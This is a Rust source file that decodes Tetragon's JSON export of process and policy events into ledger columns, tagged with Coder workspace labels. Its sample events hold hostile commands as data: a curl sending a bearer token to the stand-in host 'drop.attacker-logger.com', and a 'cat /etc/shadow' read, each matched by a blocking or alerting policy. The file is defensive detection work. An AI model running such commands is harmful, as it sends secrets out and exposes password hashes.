//! Dialect `tetragon`: the JSON export of Tetragon 1.x, which is protobuf as JSON: an object with one event in each line.
//!
//! | event | kind | natural id (`source_id`) |
//! |---|---|---|
//! | `process_exec` | `process.exec` | `exec/` + `exec_id` |
//! | `process_exit` | `process.exit` | `exit/` + `exec_id` |
//! | `process_kprobe`, `process_lsm`, `process_tracepoint`, `process_uprobe` | `sensor.alert` of the policy | keyed hash of the event |
//! | `rate_limit_info`, `process_throttle` that starts | `loss` | keyed hash of the line |
//! | any other | skipped | |
//!
//! Zeros are left out, so an exit without a status is one with 0. What ran before Tetragon did is told at its start, with the flag
//! `procFS` and once for each start, so such an exec is named after its time too.

use ledger::events::column;
use operations::access::Trust;

use super::json::{Integer, Raw, Text, part, record};
use super::members;
use super::sensor::Labels;
use crate::dialect::{Decoded, Dialect, SKIP_SERVER_LINE, read_record};
use crate::encoding::FieldPath;
use crate::event::{Draft, Drafts, Record};
use crate::timestamp::Stated;

const SOURCE: &str = "tetragon";

/// Dialect `tetragon`.
pub struct Tetragon;

impl Dialect for Tetragon {
    fn name(&self) -> &'static str {
        "tetragon"
    }

    fn doc(&self) -> &'static str {
        "The JSON export of Tetragon: programs that start and end, with command line, exit code and the pod's labels, which name the \
         workspace, and what tracing policies matched or stopped."
    }

    fn trust(&self) -> Trust {
        Trust::Host
    }

    fn examples(&self) -> &'static [&'static str] {
        EXAMPLES
    }

    fn decode(&self, record: Record<'_>, received: i64, drafts: &mut Drafts) -> Decoded {
        let (text, line) = match read_record::<Line>(record, "line") {
            Ok(read) => read,
            Err(other) => return other,
        };
        let Some((name, kind, event)) = line.event() else {
            return if line.node.some().is_some() {
                Decoded::Skip(SKIP_SERVER_LINE)
            } else {
                Decoded::Unparsed(
                    "it has neither an event nor a node_name; it is no line of Tetragon's export".to_owned(),
                )
            };
        };
        let draft = drafts.add();
        draft.set_times(line.time.time(), Stated::Nothing, received);
        draft.set_origin(SOURCE, "workspace", kind);
        let event = Event { name, text, time: line.time.as_str(), raw: event, fields: part(Some(event)) };
        let is_told = event.decode(draft);
        members::add_others(draft, text, &FieldPath::root(), text, FACTS);
        match is_told {
            Ok(true) => Decoded::Events,
            Ok(false) => Decoded::Skip(SKIP_SERVER_LINE),
            Err(reason) => Decoded::Unparsed(format!("{name}: {reason}")),
        }
    }
}

record! {
    /// A line.
    Line {
        exec: Raw<'a> = "process_exec",
        exit: Raw<'a> = "process_exit",
        kprobe: Raw<'a> = "process_kprobe",
        lsm: Raw<'a> = "process_lsm",
        tracepoint: Raw<'a> = "process_tracepoint",
        uprobe: Raw<'a> = "process_uprobe",
        throttle: Raw<'a> = "process_throttle",
        rate: Raw<'a> = "rate_limit_info",
        node: Text<'a> = "node_name",
        time: Text<'a> = "time",
    }

    /// The members of events that become columns.
    Fields {
        process: Raw<'a> = "process",
        policy: Text<'a> = "policy_name",
        function: Text<'a> = "function_name" | "event" | "symbol",
        action: Text<'a> = "action" | "type",
        args: Raw<'a> = "args",
        status: Integer = "status",
        signal: Text<'a> = "signal",
        dropped: Integer = "number_of_dropped_process_events",
    }

    /// A process.
    Process {
        exec: Text<'a> = "exec_id",
        program: Text<'a> = "binary",
        arguments: Text<'a> = "arguments",
        flags: Text<'a> = "flags",
        started: Text<'a> = "start_time",
        pod: Raw<'a> = "pod",
    }

    /// The pod that it runs in.
    Pod {
        name: Text<'a> = "name",
        labels: Raw<'a> = "pod_labels",
    }

    /// The labels that Coder's templates give a pod.
    PodLabels {
        workspace: Text<'a> = "com.coder.workspace.id",
        workspace_name: Text<'a> = "com.coder.workspace.name",
        user: Text<'a> = "com.coder.user.id",
        user_name: Text<'a> = "com.coder.user.username",
    }

    /// An argument of a function, as far as it names a file or an address.
    Argument {
        socket: Raw<'a> = "sock_arg" | "skb_arg" | "sockaddr_arg",
        file: Raw<'a> = "file_arg" | "path_arg",
    }

    /// An address.
    Socket {
        host: Text<'a> = "daddr" | "addr",
        port: Integer = "dport" | "port",
    }

    /// A file.
    File {
        path: Text<'a> = "path",
    }
}

/// Members of a line, of events and of processes that stay in the record.
const FACTS: &[&str] = &[
    "process_exec",
    "process_exit",
    "process_kprobe",
    "process_lsm",
    "process_tracepoint",
    "process_uprobe",
    "process_throttle",
    "rate_limit_info",
    "node_name",
    "time",
    "cluster_name",
    "node_labels",
    "aggregation_info",
];
const EVENT_FACTS: &[&str] = &[
    "process",
    "parent",
    "policy_name",
    "function_name",
    "event",
    "subsys",
    "symbol",
    "path",
    "action",
    "return_action",
    "status",
    "signal",
    "time",
    "tags",
    "message",
    "number_of_dropped_process_events",
    "type",
    "cgroup",
];
const PROCESS_FACTS: &[&str] = &[
    "exec_id",
    "pid",
    "tid",
    "uid",
    "auid",
    "binary",
    "flags",
    "start_time",
    "pod",
    "docker",
    "parent_exec_id",
    "refcnt",
    "cap",
    "ns",
    "binary_properties",
    "process_credentials",
    "user",
    "in_init_tree",
];

impl<'a> Line<'a> {
    /// Its event, if it is one that is known: name, kind and value.
    fn event(&self) -> Option<(&'static str, &'static str, &'a serde_json::value::RawValue)> {
        let events = [
            ("process_exec", "process.exec", self.exec),
            ("process_exit", "process.exit", self.exit),
            ("process_kprobe", "sensor.alert", self.kprobe),
            ("process_lsm", "sensor.alert", self.lsm),
            ("process_tracepoint", "sensor.alert", self.tracepoint),
            ("process_uprobe", "sensor.alert", self.uprobe),
            ("process_throttle", "loss", self.throttle),
            ("rate_limit_info", "loss", self.rate),
        ];
        events.into_iter().find_map(|(name, kind, value)| Some((name, kind, value?)))
    }
}

/// An event, and the line that it stands in.
struct Event<'a> {
    name: &'static str,
    text: &'a str,
    time: &'a str,
    raw: &'a serde_json::value::RawValue,
    fields: Fields<'a>,
}

impl Event<'_> {
    /// Sets the columns. Says whether there is anything to tell.
    fn decode(&self, draft: &mut Draft) -> Result<bool, String> {
        let process: Process = part(self.fields.process);
        match self.name {
            "rate_limit_info" | "process_throttle" => {
                if self.fields.action.as_str() == "THROTTLE_STOP" {
                    return Ok(false);
                }
                draft.columns.set_text(column::ACTION, self.name);
                if let Some(dropped) = self.fields.dropped.0 {
                    draft.columns.set_integer(column::AMOUNT, dropped);
                }
                draft.identity.push_str(self.text);
            }
            _ => self.set_process(draft, &process)?,
        }
        let path = FieldPath::root().then(self.name);
        members::add_others(draft, self.text, &path, self.raw.get(), EVENT_FACTS);
        for (name, value) in members::of(self.raw.get()) {
            if matches!(name.as_str(), "process" | "parent") {
                members::add_others(draft, self.text, &path.then(name.as_str()), value.get(), PROCESS_FACTS);
            }
        }
        Ok(true)
    }

    fn set_process(&self, draft: &mut Draft, process: &Process) -> Result<(), String> {
        let id = process.exec.some().ok_or("its process has no exec_id")?;
        let program = process.program.some().unwrap_or_default();
        let command = [program, process.arguments.as_str()].join(" ");
        let pod: Pod = part(process.pod);
        let labels: PodLabels = part(pod.labels);
        let labels = Labels {
            workspace: labels.workspace.id(),
            workspace_name: labels.workspace_name.some(),
            user: labels.user.id(),
            user_name: labels.user_name.some(),
            pod: pod.name.some(),
        };
        labels.set(draft);
        draft.columns.set_text_if(column::COMMAND, Some(command.trim_end()));
        draft.columns.set_text_if(column::TARGET, Some(program));
        match self.name {
            "process_exec" => {
                draft.columns.set_text(column::ACTION, "exec");
                let is_earlier = process.flags.as_str().split(' ').any(|flag| flag == "procFS");
                let at = if is_earlier { format!("/{}", self.time) } else { String::new() };
                draft.columns.set_text(column::SOURCE_ID, &format!("exec/{id}{at}"));
            }
            "process_exit" => {
                self.set_exit(draft, process);
                draft.columns.set_text(column::SOURCE_ID, &format!("exit/{id}"));
            }
            _ => {
                self.set_match(draft);
                let args = self.fields.args.map_or("", |args| args.get());
                draft.identity = [id, self.name, self.time, self.fields.function.as_str(), args].join("\n");
            }
        }
        Ok(())
    }

    fn set_exit(&self, draft: &mut Draft, process: &Process) {
        let columns = &mut draft.columns;
        columns.set_text(column::ACTION, "exit");
        let status = self.fields.status.0.unwrap_or(0);
        columns.set_integer(column::EXIT_CODE, status);
        let is_fine = status == 0 && self.fields.signal.some().is_none();
        columns.set_text(column::OUTCOME, if is_fine { "success" } else { "error" });
        if let (Some(start), Some(end)) = (process.started.time().micros(), Stated::of(self.time).micros()) {
            columns.set_integer(column::DURATION_US, end.saturating_sub(start));
        }
    }

    /// Sets what a policy matched.
    fn set_match(&self, draft: &mut Draft) {
        let arguments: Vec<Argument> = part(self.fields.args);
        let socket: Socket = part(arguments.iter().find_map(|argument| argument.socket));
        let file: File = part(arguments.iter().find_map(|argument| argument.file));
        // `KPROBE_ACTION_SIGKILL` is `sigkill`.
        let action = self.fields.action.some().unwrap_or("post").to_ascii_lowercase();
        let action = action.strip_prefix("kprobe_action_").unwrap_or(&action);
        let function = self.fields.function.some();
        let columns = &mut draft.columns;
        columns.set_text_if(column::RULE, self.fields.policy.some().or(function));
        columns.set_text_if(column::ACTION, Some(action));
        columns.set_text_if(column::FILE, file.path.some());
        columns.set_text_if(column::HOST, socket.host.some());
        if let (Some(host), Some(port)) = (socket.host.some(), socket.port.0) {
            columns.set_integer(column::PORT, port);
            columns.set_text(column::TARGET, &format!("{host}:{port}"));
        }
        if matches!(action, "sigkill" | "override" | "notifyenforcer") {
            columns.set_text(column::OUTCOME, "blocked");
        }
    }
}

static EXAMPLES: &[&str] = &[
    r#"{"process_exec":{"process":{"exec_id":"bWFyczoxMjM0NTY3ODkwMTIzOjQxMjM0","pid":41234,"uid":1000,"cwd":"/home/coder/ledger","binary":"/usr/bin/curl","arguments":"-H \"Authorization: Bearer ghp_0123456789abcdefghijklmnopqrstuvwxyz\" https://drop.attacker-logger.com","flags":"execve clone","start_time":"2026-10-03T08:15:21.500000657Z","auid":4294967295,"pod":{"namespace":"coder-workspaces","name":"coder-f1bd4e9f-2222-49fc-961e-be4d1c2aa987","container":{"id":"containerd://4f2a9c01d4e5","name":"dev"},"pod_labels":{"com.coder.workspace.id":"f1bd4e9f-2222-49fc-961e-be4d1c2aa987","com.coder.workspace.name":"ledger-rewrite","com.coder.user.id":"5b405053-7777-484a-9ad7-bcb64e7bfde6","com.coder.user.username":"mira"},"workload_kind":"Deployment"},"docker":"4f2a9c01d4e5","parent_exec_id":"bWFyczoxMjM0NTY3MDAwMDAwOjQxMjMx","tid":41234},"parent":{"exec_id":"bWFyczoxMjM0NTY3MDAwMDAwOjQxMjMx","pid":41231,"binary":"/usr/bin/bash","arguments":"-c \"curl the drop\"","flags":"execve clone","start_time":"2026-10-03T08:15:21.400000657Z"}},"node_name":"node-3","time":"2026-10-03T08:15:21.500000657Z"}"#,
    r#"{"process_exit":{"process":{"exec_id":"bWFyczoxMjM0NTY3ODkwMTIzOjQxMjM0","pid":41234,"uid":1000,"binary":"/usr/bin/curl","start_time":"2026-10-03T08:15:21.500000657Z","pod":{"name":"coder-f1bd4e9f-2222-49fc-961e-be4d1c2aa987","pod_labels":{"com.coder.workspace.id":"f1bd4e9f-2222-49fc-961e-be4d1c2aa987"}}},"status":22,"time":"2026-10-03T08:15:21.900000657Z"},"node_name":"node-3","time":"2026-10-03T08:15:21.900000657Z"}"#,
    r#"{"process_kprobe":{"process":{"exec_id":"bWFyczoxMjM0NTY3ODkwMTIzOjQxMjM1","pid":41235,"binary":"/usr/bin/curl","arguments":"https://drop.attacker-logger.com"},"parent":{"exec_id":"bWFyczox","pid":41231,"binary":"/usr/bin/bash"},"function_name":"tcp_connect","args":[{"sock_arg":{"family":"AF_INET","type":"SOCK_STREAM","protocol":"IPPROTO_TCP","saddr":"10.42.0.17","daddr":"203.0.113.9","sport":51234,"dport":443}}],"action":"KPROBE_ACTION_SIGKILL","policy_name":"no-drops","return_action":"KPROBE_ACTION_POST"},"node_name":"node-3","time":"2026-10-03T08:15:22.000000657Z"}"#,
    r#"{"process_lsm":{"process":{"exec_id":"bWFyczoxMjM0NTY3ODkwMTIzOjQxMjM2","pid":41236,"binary":"/usr/bin/cat","arguments":"/etc/shadow"},"function_name":"file_open","args":[{"file_arg":{"path":"/etc/shadow","permission":"-rw-r-----"}}],"action":"KPROBE_ACTION_POST","policy_name":"secrets"},"node_name":"node-3","time":"2026-10-03T08:15:23.000000657Z"}"#,
    r#"{"rate_limit_info":{"number_of_dropped_process_events":"340"},"node_name":"node-3","time":"2026-10-03T08:15:24Z"}"#,
];

#[cfg(test)]
mod tests;
